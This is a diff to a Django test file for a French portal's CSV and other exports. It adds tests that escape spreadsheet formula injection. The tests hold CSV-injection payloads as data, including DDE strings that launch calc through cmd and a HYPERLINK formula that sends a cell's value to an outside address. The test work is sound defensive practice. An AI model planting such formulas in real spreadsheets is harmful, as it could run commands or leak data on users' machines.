@@ -68,6 +68,11 @@ def _list_titles(client, query):
     return [card.title for card in response.context["search"].page]
 
 
+def _as_text(title):
+    """A cell as the CSV writes it: « ' » before what would start a formula."""
+    return "'" + title if title.startswith(("=", "+", "-", "@", "\t", "\r")) else title
+
+
 def _csv_rows(response):
     """The file as French Excel opens it: UTF-8 with its BOM, cells separated by « ; »."""
     data = b"".join(response.streaming_content)
@@ -84,13 +89,15 @@ def test_the_csv_holds_the_lists_cards_in_its_order(client, cards, query):
     today = timezone.localdate().isoformat()
     assert response["Content-Disposition"] == f'attachment; filename="fiches-vita-{today}.csv"'
     rows = _csv_rows(response)
-    # A leading « = » is dropped, as the admin's exports do: no formula in Excel.
-    listed = [title.removeprefix("=") for title in _list_titles(client, query)]
+    # A text that would start a formula is marked as a text: no formula in Excel.
+    listed = [_as_text(title) for title in _list_titles(client, query)]
     assert [row["Titre"] for row in rows] == listed
     assert "Brouillon" not in [row["Titre"] for row in rows]
 
 
-def test_a_csv_row_says_what_the_card_says(client, cards):
+def test_a_csv_row_says_what_the_card_says(client, cards, settings):
+    # The portal's public address, whatever host the request named (vita.findable).
+    settings.SITE_URL = "https://vita.example.org"
     rows = {row["Titre"]: row for row in _csv_rows(client.get(CSV, {"groupe": "A1"}))}
 
     row = rows["Zéro chômeur à Rennes"]
@@ -102,9 +109,31 @@ def test_a_csv_row_says_what_the_card_says(client, cards):
     assert row["Publiée le"] == "05/03/2024"  # the French way
     assert row["Freins rencontrés"] == "Des financements morcelés."
     assert row["Leviers"] == "Un élu porteur du projet.\nLa mairie, partenaire."
-    assert row["Adresse de la fiche"] == f"http://testserver{cards[0].get_absolute_url()}"
+    assert row["Adresse de la fiche"] == f"https://vita.example.org{cards[0].get_absolute_url()}"
     # A « ; » or quotes inside a cell stay in it.
-    assert "Clauses sociales; « sur » le port" in rows
+    assert "'=Clauses sociales; « sur » le port" in rows
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '==HYPERLINK("http://example.org/?"&A1;"clic")',
+        "-2+3+cmd|' /C calc'!A0",
+        "+33 1 00 00 00 00+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ],
+)
+def test_no_cell_of_the_public_csv_starts_a_formula(client, text):
+    """The cards' words are anyone's (a proposed card, a document): whatever a text starts
+    with, Excel reads a text, never a formula (OWASP CSV injection)."""
+    factories.ExperienceCardFactory(title=text, summary=text, territory_name=text)
+
+    rows = _csv_rows(client.get(CSV))
+
+    assert rows[0]["Titre"] == f"'{text}"
+    assert [cell for cell in rows[0].values() if cell == f"'{text}"] == [f"'{text}"] * 3
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())
 
 
 def test_the_xlsx_holds_the_same_rows(client, cards):
@@ -235,6 +264,19 @@ def test_exports_are_rate_limited(client, cards, settings):
     assert [client.get(CSV).status_code for _ in range(3)] == [200, 200, 429]
 
 
+@pytest.mark.parametrize("export", [CSV, PDF])
+def test_a_head_request_counts_as_an_export(client, cards, settings, export):
+    """HEAD makes the whole file as GET does (a dossier: seconds of a worker)."""
+    if export == PDF:
+        _needs_pdf()
+    settings.EXPORT_RATE = "2/m"
+    statuses = [client.head(export).status_code for _ in range(2)]
+
+    assert [*statuses, client.get(export).status_code, client.head(export).status_code] == [
+        200, 200, 429, 429,
+    ]  # fmt: skip
+
+
 def test_the_card_page_is_unchanged_by_the_shared_body(client, cards):
     response = client.get(cards[0].get_absolute_url())
 
@@ -270,7 +312,7 @@ def test_a_groups_page_offers_its_cards(client, cards):
     assert "Les 3 fiches du groupe, par titre" in page
     assert f'href="{CSV}?groupe=A1"' in page
     titles = [row["Titre"] for row in _csv_rows(client.get(CSV, {"groupe": "A1"}))]
-    assert sorted(titles) == sorted(c.title.removeprefix("=") for c in cards[:3])
+    assert sorted(titles) == sorted(_as_text(c.title) for c in cards[:3])
 
 
 def test_the_csv_imports_back_in_the_admin_unchanged(client, cards):
@@ -281,5 +323,5 @@ def test_the_csv_imports_back_in_the_admin_unchanged(client, cards):
     result = sheet.import_data(FrenchCSV().create_dataset(data), dry_run=True)
 
     assert not result.has_errors() and not result.has_validation_errors()
-    # Unchanged, but the title that began with « = »: exported without it (no formula).
+    # Unchanged, but the title that began with « = »: exported as a text (no formula).
     assert (result.totals["skip"], result.totals["update"]) == (2, 1)
